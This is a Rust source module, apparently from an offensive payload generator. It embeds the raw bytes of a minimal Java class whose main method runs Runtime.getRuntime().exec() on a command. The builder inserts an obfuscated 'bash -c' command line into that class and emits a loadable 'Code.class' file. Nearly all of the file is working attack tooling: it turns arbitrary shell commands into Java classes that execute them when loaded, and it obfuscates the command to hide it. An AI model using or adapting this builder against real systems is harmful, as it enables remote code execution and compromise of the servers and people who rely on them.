use std::path::Path;

use crate::{obfuscate::obfuscate, PayloadError, Result};

/// Required base name for the produced file; the skeleton's this_class
/// entry names the class `Code`, and class loaders match the two.
pub const EXPECTED_CLASS_NAME: &str = "Code.class";

const COMMANDLINE_PREFIX: &str = "bash -c ";

const CONSTANT_UTF8_TAG: u8 = 1;

// Minimal class skeleton, split around constant pool slot 10. The
// prefix covers the header (magic, version 0.55, pool count 17) and
// entries 1-9: the Methodref/String/Methodref triple the bytecode
// loads, class Code, the main method name and descriptor, class
// java/lang/Runtime and its getRuntime NameAndType.
const CLASS_PREFIX: &[u8] = &[
    0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, 0x37, 0x00, 0x11, 0x0a, 0x00,
    0x08, 0x00, 0x09, 0x08, 0x00, 0x0a, 0x0a, 0x00, 0x08, 0x00, 0x0b, 0x07,
    0x00, 0x05, 0x01, 0x00, 0x04, 0x43, 0x6f, 0x64, 0x65, 0x01, 0x00, 0x04,
    0x6d, 0x61, 0x69, 0x6e, 0x01, 0x00, 0x16, 0x28, 0x5b, 0x4c, 0x6a, 0x61,
    0x76, 0x61, 0x2f, 0x6c, 0x61, 0x6e, 0x67, 0x2f, 0x53, 0x74, 0x72, 0x69,
    0x6e, 0x67, 0x3b, 0x29, 0x56, 0x07, 0x00, 0x0c, 0x0c, 0x00, 0x0d, 0x00,
    0x0e,
];

// Entries 11-16 (the exec NameAndType and the java/lang/Runtime,
// getRuntime, exec strings with their descriptors), then the class
// descriptor, a single static main whose Code attribute calls
// Runtime.getRuntime().exec(<slot 10>), and empty attribute tables.
const CLASS_SUFFIX: &[u8] = &[
    0x0c, 0x00, 0x0f, 0x00, 0x10, 0x01, 0x00, 0x11, 0x6a, 0x61, 0x76, 0x61,
    0x2f, 0x6c, 0x61, 0x6e, 0x67, 0x2f, 0x52, 0x75, 0x6e, 0x74, 0x69, 0x6d,
    0x65, 0x01, 0x00, 0x0a, 0x67, 0x65, 0x74, 0x52, 0x75, 0x6e, 0x74, 0x69,
    0x6d, 0x65, 0x01, 0x00, 0x15, 0x28, 0x29, 0x4c, 0x6a, 0x61, 0x76, 0x61,
    0x2f, 0x6c, 0x61, 0x6e, 0x67, 0x2f, 0x52, 0x75, 0x6e, 0x74, 0x69, 0x6d,
    0x65, 0x3b, 0x01, 0x00, 0x04, 0x65, 0x78, 0x65, 0x63, 0x01, 0x00, 0x27,
    0x28, 0x4c, 0x6a, 0x61, 0x76, 0x61, 0x2f, 0x6c, 0x61, 0x6e, 0x67, 0x2f,
    0x53, 0x74, 0x72, 0x69, 0x6e, 0x67, 0x3b, 0x29, 0x4c, 0x6a, 0x61, 0x76,
    0x61, 0x2f, 0x6c, 0x61, 0x6e, 0x67, 0x2f, 0x50, 0x72, 0x6f, 0x63, 0x65,
    0x73, 0x73, 0x3b, 0x04, 0x21, 0x00, 0x04, 0x00, 0x08, 0x00, 0x00, 0x00,
    0x00, 0x00, 0x01, 0x00, 0x09, 0x00, 0x06, 0x00, 0x07, 0x00, 0x01, 0x00,
    0x05, 0x00, 0x00, 0x00, 0x15, 0x00, 0x02, 0x00, 0x01, 0x00, 0x00, 0x00,
    0x09, 0xb8, 0x00, 0x01, 0x12, 0x02, 0xb6, 0x00, 0x03, 0xb1, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x00,
];

/// Assembles class files around one variable Utf8 constant pool slot.
///
/// The templates are opaque here; swapping them retargets the builder
/// at a different skeleton without touching the assembly logic.
pub struct TemplateBuilder {
    prefix: &'static [u8],
    suffix: &'static [u8],
}

impl Default for TemplateBuilder {
    fn default() -> Self {
        Self {
            prefix: CLASS_PREFIX,
            suffix: CLASS_SUFFIX,
        }
    }
}

impl TemplateBuilder {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn build(&self, output_path: &Path, commandline: &str) -> Result<Payload> {
        let base_name = output_path.file_name().and_then(|n| n.to_str());
        if base_name != Some(EXPECTED_CLASS_NAME) {
            return Err(PayloadError::WrongOutputName(
                output_path.display().to_string(),
            ));
        }

        let encoded = format!("{COMMANDLINE_PREFIX}{}", obfuscate(commandline));
        let Ok(length) = u16::try_from(encoded.len()) else {
            return Err(PayloadError::CommandLineTooLong(encoded.len()));
        };

        let mut bytes =
            Vec::with_capacity(self.prefix.len() + 3 + encoded.len() + self.suffix.len());
        bytes.extend_from_slice(self.prefix);
        bytes.push(CONSTANT_UTF8_TAG);
        bytes.extend_from_slice(&length.to_be_bytes());
        bytes.extend_from_slice(encoded.as_bytes());
        bytes.extend_from_slice(self.suffix);

        Ok(Payload {
            bytes,
            original_commandline: commandline.to_owned(),
            encoded_commandline: encoded,
        })
    }
}

/// A finished class file plus what went into its variable slot.
pub struct Payload {
    pub bytes: Vec<u8>,
    pub original_commandline: String,
    pub encoded_commandline: String,
}

impl Payload {
    /// Byte size of the embedded Utf8 entry's data.
    pub fn encoded_size(&self) -> usize {
        self.encoded_commandline.len()
    }

    pub fn total_size(&self) -> usize {
        self.bytes.len()
    }
}
